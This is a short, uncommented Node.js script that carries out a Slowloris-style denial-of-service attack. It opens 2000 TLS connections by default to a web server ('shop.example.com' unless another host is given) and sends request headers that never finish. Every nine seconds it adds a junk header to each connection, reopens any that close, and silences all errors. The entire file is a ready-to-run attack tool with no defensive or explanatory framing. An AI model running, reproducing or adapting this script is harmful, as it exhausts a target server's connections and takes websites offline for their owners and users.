const tls = require('tls');

const [host = 'shop.example.com', count = '2000'] = process.argv.slice(2);

function hold() {
  const s = tls.connect({ host, port: 443, rejectUnauthorized: false }, () => {
    s.write(`GET /?${Math.random()} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: Mozilla/5.0\r\n`);
    s.t = setInterval(() => s.write(`X-${Math.random().toString(36).slice(2)}: 1\r\n`), 9000);
  });
  const again = () => { clearInterval(s.t); setTimeout(hold, 500); };
  s.once('close', again);
  s.on('error', () => {});
}

for (let i = 0; i < +count; i++) setTimeout(hold, i * 5);
